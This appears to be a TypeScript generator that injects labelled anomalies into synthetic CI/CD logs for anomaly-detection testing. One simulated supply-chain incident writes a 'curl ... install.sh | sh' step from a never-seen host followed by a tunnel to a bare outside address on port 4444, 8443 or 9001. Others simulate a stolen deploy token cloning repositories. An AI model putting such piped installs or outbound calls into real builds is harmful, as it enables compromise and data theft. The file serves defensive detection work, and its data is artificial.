// The `ci` generator's labelled incidents (see ci.ts), all after a 30-minute warm-up, none in the
// last minute, 5 s apart (random.ts timeApart):
//   supply_chain       2 builds that fetch from where no build ever did: a base image pulled
//                      unpinned (:latest) from a registry host never seen, through the proxy; a
//                      dependency step reaching a never-seen package host (a dependency confusion);
//                      an install script piped from a never-seen host into a shell, then a
//                      connection to a bare address (every such line labelled)
//   credential_misuse  the deploy service token, used only by Argo CD from its one address, used
//                      from an outside address: the registry's catalog listed, 8-20 repositories
//                      cloned and 3-8 production images pulled within a few minutes
//   rare_burst         2 bursts of a normal but infrequent line: a mirror job's expired token
//                      refused by the git server again and again, the Docker Hub proxy's pull rate
//                      limit (429) on the runners, jobs queued for a busy arm64 runner
//   rare_error         one error template by seed (a runner told to shut down mid-job, a registry
//                      blob upload unknown, Argo CD's repo server unreachable) recurring 7 times,
//                      lone, all run long; and 3 error templates never seen before (a runner's
//                      disk full, the cache's clock skew at S3, the registry's read-only disk,
//                      Terraform's state lock, Argo CD's cluster credentials refused)
//   unusual_value      5 known lines with an unusual value: a build 30× its usual time, an image
//                      40× its usual size, a cache restore 30× its usual time, a fetch 100× its
//                      usual bytes, a plan destroying 60-180 resources, a test run with hundreds
//                      of failures
//   unseen_category    3 values never seen: a deploy to a cluster never deployed to, a Terraform
//                      workspace never seen, an image manifest DELETEd, a cache purged org-wide
import { timeApart } from './random.js';
import { deployLines, registryLine, renderJob, type Job } from './ci-builds.js';
import { gitDenied, gitLine, pullLimited, queued, tfRow } from './ci-ops.js';
import { DEPLOY_USER, NEW_CLUSTERS, NEW_WORKSPACES, ORG, outsideIp, reposAt, ROGUE_HOSTS, runnersAt, STREAMS, WARMUP_MS, WORKSPACES, type Row, type W } from './ci-lines.js';

export const CI_KINDS = ['credential_misuse', 'rare_burst', 'rare_error', 'supply_chain', 'unseen_category', 'unusual_value'] as const;

/** The first untouched job from ts on (else from the warm-up's end) that passes `test` and ends (`stretch` × its time) two minutes before the run does. */
function takeJob(w: W, jobs: Job[], ts: number, test: (j: Job) => boolean, stretch = 1): Job | undefined {
  const fits = (from: number) => (j: Job): boolean => j.ts >= from && Object.keys(j.kinds).length === 0 && j.ts + j.secs * 1000 * stretch < w.end - 120_000 && test(j);
  return jobs.find(fits(ts)) ?? jobs.find(fits(w.t0 + WARMUP_MS));
}

const tunnel = (w: W, ts: number, ip: string, host: string, bytes: number, kind: string): Row =>
  w.row(ts, STREAMS.proxy, w.proxy(ts, { ms: w.r.int(300, 20_000), ip, code: 'TCP_TUNNEL/200', bytes, method: 'CONNECT', url: host, peer: `HIER_DIRECT/${outsideIp(w.r)}` }), undefined, kind);

function supplyChain(w: W, jobs: Job[], rows: Row[], ts: number, which: number): void {
  const SC = 'supply_chain';
  const { r } = w;
  const j = takeJob(w, jobs, ts, (x) => x.result === 'Succeeded' && x.secs > 90);
  if (j === undefined) return;
  const ip = j.runner.ip;
  const run = (at: number, level: string, comp: string, msg: string): void => { rows.push(w.row(at, STREAMS.runner, w.runner(at, j.runner.name, level, comp, msg), undefined, SC)); };
  let t = j.ts + r.int(4000, 6000);
  if (which === 0) {
    const host = r.pick(ROGUE_HOSTS.filter((h) => h.startsWith('ghcr') || h.startsWith('dl.')));
    run(t, 'INFO', 'Worker', `Pulling image ${host}/tools/${j.repo.lang}-builder:latest`);
    rows.push(tunnel(w, t + r.int(100, 600), ip, `${host}:443`, r.int(40e6, 300e6), SC));
  } else if (which === 1) {
    const host = r.pick(ROGUE_HOSTS.filter((h) => !h.startsWith('ghcr') && !h.startsWith('get.') && !h.startsWith('dl.')));
    for (let i = r.int(2, 4); i > 0; i--) { t += r.int(300, 4000); rows.push(tunnel(w, t, ip, `${host}:443`, r.int(20_000, 4e6), SC)); }
  } else {
    const host = 'get.buildtools.sh';
    run(t, 'INFO', 'Step', `Step 'curl -sSfL https://${host}/install.sh | sh' finished in ${(1 + 4 * r.next()).toFixed(1)}s with exit code 0`);
    rows.push(tunnel(w, t - r.int(500, 1500), ip, `${host}:443`, r.int(8000, 60_000), SC));
    rows.push(tunnel(w, t + r.int(2000, 9000), ip, `${outsideIp(r)}:${r.pick([4444, 8443, 9001])}`, r.int(2e6, 40e6), SC));
  }
}

function credentialMisuse(w: W, rows: Row[], ts: number, span: number): void {
  const CM = 'credential_misuse';
  const { r } = w;
  const ip = outsideIp(r), agent = 'git/2.34.1';
  rows.push(w.row(ts, STREAMS.registry, w.registry(ts, 'info', 'response completed', {
    'http.request.method': 'GET', 'http.request.uri': '/v2/_catalog?n=1000', 'http.request.remoteaddr': ip, 'http.request.useragent': 'curl/7.81.0', 'http.response.status': 200,
    'http.response.written': r.int(4000, 9000), 'http.response.duration': `${(20 + 30 * r.next()).toFixed(1)}ms`, 'auth.user.name': DEPLOY_USER,
  }), undefined, CM));
  const repos = reposAt(w, ts).slice().sort(() => r.next() - 0.5).slice(0, r.int(8, 20));
  repos.forEach((repo, i) => {
    const at = ts + 5000 + Math.round((i * span) / repos.length) + r.int(0, 900);
    rows.push(gitLine(w, at, { ip, user: DEPLOY_USER, path: `/${ORG}/${repo.name}.git/info/refs?service=git-upload-pack`, bytes: r.int(800, 9000), agent, rt: w.around(0.03, 0.4) }, CM));
    rows.push(gitLine(w, at + r.int(200, 700), { ip, user: DEPLOY_USER, method: 'POST', path: `/${ORG}/${repo.name}.git/git-upload-pack`, bytes: Math.round(w.around(2e6 + repo.tests * 4000, 0.3)), agent, rt: w.around(0.6, 0.35) }, CM));
  });
  const apps = repos.filter((x) => x.app);
  for (let i = r.int(3, 8); i > 0 && apps.length > 0; i--) {
    const repo = r.pick(apps);
    rows.push(registryLine(w, ts + span + r.int(5000, 60_000), { method: 'GET', name: `${ORG}/${repo.name}`, ref: `v${repo.version.join('.')}`, written: r.int(1400, 3000), ip, user: DEPLOY_USER, agent: 'docker/24.0.7 go/go1.20.10 os/linux' }, CM));
  }
}

function rareBurst(w: W, rows: Row[], ts: number, which: number, span: number): void {
  const RB = 'rare_burst';
  const { r } = w;
  const n = r.int(40, 110);
  const ip = `10.20.7.${r.int(2, 250)}`, repo = r.pick(reposAt(w, ts)).name;
  for (let j = 0; j < n; j++) {
    const at = ts + Math.round((j * span) / n) + r.int(0, 300);
    if (which === 0) rows.push(gitDenied(w, at, ip, repo, RB));
    else if (which === 1) rows.push(pullLimited(w, at, r.pick(runnersAt(w, at)).ip, RB));
    else rows.push(queued(w, at, r.pick(reposAt(w, at)).name, 3 + Math.floor(j / 3), RB));
  }
}

/** The seed's recurring rare error: one lone occurrence at ts. */
function rareOne(w: W, rows: Row[], ts: number): void {
  const RE = 'rare_error';
  const { r } = w;
  if (w.seed % 3 === 0) {
    rows.push(w.row(ts, STREAMS.runner, w.runner(ts, r.pick(runnersAt(w, ts)).name, 'ERROR', 'Worker', 'The runner has received a shutdown signal. This can happen when the runner service is stopped, or a manually started runner is canceled.'), undefined, RE));
  } else if (w.seed % 3 === 1) {
    const repo = r.pick(reposAt(w, ts).filter((x) => x.app)).name;
    rows.push(w.row(ts, STREAMS.registry, w.registry(ts, 'error', 'response completed with error', {
      'err.code': 'blob upload unknown', 'err.message': 'blob upload unknown to registry', 'http.request.method': 'PATCH', 'http.request.uri': `/v2/${ORG}/${repo}/blobs/uploads/${w.uuid()}`,
      'http.request.remoteaddr': r.pick(runnersAt(w, ts)).ip, 'http.response.status': 404, 'auth.user.name': 'ci-runner',
    }), undefined, RE));
  } else {
    const repo = r.pick(reposAt(w, ts).filter((x) => x.app && x.from < w.t0));
    rows.push(w.row(ts, STREAMS.deploy, w.deploy(ts, 'error', 'ComparisonError: Failed to load target state: failed to generate manifest for source 1 of 1: rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: dial tcp 10.20.1.16:8081: connect: connection refused"', {
      application: `argocd/${repo.name}-staging`, 'dest-name': 'staging-eu-west-1', 'dest-namespace': repo.name,
    }), undefined, RE));
  }
}

type NewError = (w: W, ts: number) => Row[];
const NEW_ERRORS: NewError[] = [
  (w, ts) => [w.row(ts, STREAMS.runner, w.runner(ts, w.r.pick(runnersAt(w, ts)).name, 'ERROR', 'Worker', `System.IO.IOException: No space left on device : '/home/runner/_work/_temp/_runner_file_commands/save_state_${w.uuid()}'`))],
  (w, ts) => [w.row(ts, STREAMS.cache, w.cache(ts, 'error', { op: 'save', repo: `${ORG}/${w.r.pick(w.repos).name}`, err: 'operation error S3: PutObject, https response error StatusCode: 403, api error RequestTimeTooSkewed: The difference between the request time and the current time is too large.' }))],
  (w, ts) => [w.row(ts, STREAMS.registry, w.registry(ts, 'error', 'response completed with error', {
    'err.code': 'unknown', 'err.message': 'unknown error', 'err.detail': `filesystem: mkdir /var/lib/registry/docker/registry/v2/repositories/${ORG}/${w.r.pick(w.repos).name}/_uploads/${w.uuid()}: read-only file system`,
    'http.request.method': 'POST', 'http.response.status': 500, 'auth.user.name': 'ci-runner',
  }))],
  (w, ts) => [tfRow(w, ts, { ws: w.r.pick(WORKSPACES), op: 'apply', actor: w.r.pick(w.users), status: 'errored', secs: w.r.int(2, 9), msg: `Error acquiring the state lock: ConditionalCheckFailedException: The conditional request failed. Lock Info: ID: ${w.uuid()} Operation: OperationTypeApply` })],
  (w, ts) => [w.row(ts, STREAMS.deploy, w.deploy(ts, 'error', 'Failed to initialize cluster cache: the server has asked for the client to provide credentials', { server: 'https://eks-prod-us-east-1.acme.internal', 'dest-name': 'prod-us-east-1' }))],
];

function unusualValue(w: W, jobs: Job[], rows: Row[], ts: number, which: number): void {
  const UV = 'unusual_value';
  const { r } = w;
  if (which === 4) {
    const destroy = r.int(60, 180);
    rows.push(tfRow(w, ts, { ws: r.pick(WORKSPACES.filter((x) => x.includes('prod'))), op: 'plan', actor: r.pick(w.users.slice(0, 12)), destroy, msg: `Plan: 0 to add, 0 to change, ${destroy} to destroy.` }, UV));
    return;
  }
  const stretch = which === 0 ? 30 : 1;
  const j = takeJob(w, jobs, ts, (x) => x.result === 'Succeeded' && (which !== 1 || x.tag !== undefined) && (which !== 2 || x.hit), stretch);
  if (j === undefined) return;
  if (which === 0) Object.assign(j, { secs: j.secs * stretch, kinds: { tests: UV, end: UV } });
  else if (which === 1) Object.assign(j, { mb: Math.round(j.mb * 40 * 10) / 10, kinds: { image: UV } });
  else if (which === 2) Object.assign(j, { cacheMs: j.cacheMs * 30, kinds: { cache: UV } });
  else if (which === 3) Object.assign(j, { gitBytes: j.gitBytes * 100, kinds: { fetch: UV } });
  else Object.assign(j, { result: 'Failed', tests: { ...j.tests, passed: Math.round(j.tests.passed * 0.6), failed: r.int(150, 400) }, tag: undefined, deployTo: [], kinds: { tests: UV } });
}

function unseenCategory(w: W, rows: Row[], ts: number, which: number): void {
  const UC = 'unseen_category';
  const { r } = w;
  const user = r.pick(w.users);
  if (which === 0) {
    const repo = r.pick(reposAt(w, ts).filter((x) => x.app && x.from < w.t0));
    deployLines(w, rows, repo, `v${repo.version.join('.')}`, ts - 20_000, [r.pick(NEW_CLUSTERS)], UC);
  } else if (which === 1) {
    const ws = r.pick(NEW_WORKSPACES), sha = r.hex(8), add = r.int(5, 40);
    rows.push(tfRow(w, ts, { ws, op: 'plan', actor: user, sha, add, msg: `Plan: ${add} to add, 0 to change, 0 to destroy.` }, UC));
    rows.push(tfRow(w, ts + r.int(60, 400) * 1000, { ws, op: 'apply', actor: user, sha, add, secs: r.int(60, 600), msg: `Apply complete! Resources: ${add} added, 0 changed, 0 destroyed.` }, UC));
  } else if (which === 2) {
    const repo = r.pick(reposAt(w, ts).filter((x) => x.app));
    rows.push(registryLine(w, ts, { method: 'DELETE', name: `${ORG}/${repo.name}`, ref: `sha256:${r.hex(64)}`, status: 202, written: 0, ip: r.pick(w.vpn), user, agent: 'regctl/v0.7.1' }, UC));
  } else {
    rows.push(w.row(ts, STREAMS.cache, w.cache(ts, 'warn', { op: 'purge', scope: 'org', deleted: r.int(800, 4000), freed_mb: r.int(200_000, 900_000), actor: user }), undefined, UC));
  }
}

/** Every kind at random times after the warm-up, then every job written out. The draws are in this order (a seed's set depends on it). */
export function injectCiIncidents(w: W, jobs: Job[], rows: Row[]): void {
  const { r } = w;
  const lo = w.t0 + WARMUP_MS, hi = w.end - 60_000;
  const at = timeApart(r, lo, hi, []);
  for (let i = 0; i < 2; i++) supplyChain(w, jobs, rows, at(), (w.seed + i) % 3);
  const span = r.int(60, 240) * 1000;
  credentialMisuse(w, rows, at(span + 60_000), span);
  for (let i = 0; i < 2; i++) { const s = r.int(10, 40) * 1000; rareBurst(w, rows, at(s), (w.seed + i) % 3, s); }
  for (let i = 0; i < 7; i++) rareOne(w, rows, at());
  for (let i = 0; i < 3; i++) rows.push(...NEW_ERRORS[(w.seed * 3 + i) % NEW_ERRORS.length](w, at()).map((x) => ({ ...x, kind: 'rare_error' })));
  for (let i = 0; i < 5; i++) unusualValue(w, jobs, rows, at(), (w.seed + i) % 6);
  for (let i = 0; i < 3; i++) unseenCategory(w, rows, at(), (w.seed + i) % 4);
  for (const j of jobs.sort((a, b) => a.ts - b.ts)) renderJob(w, rows, j);
}
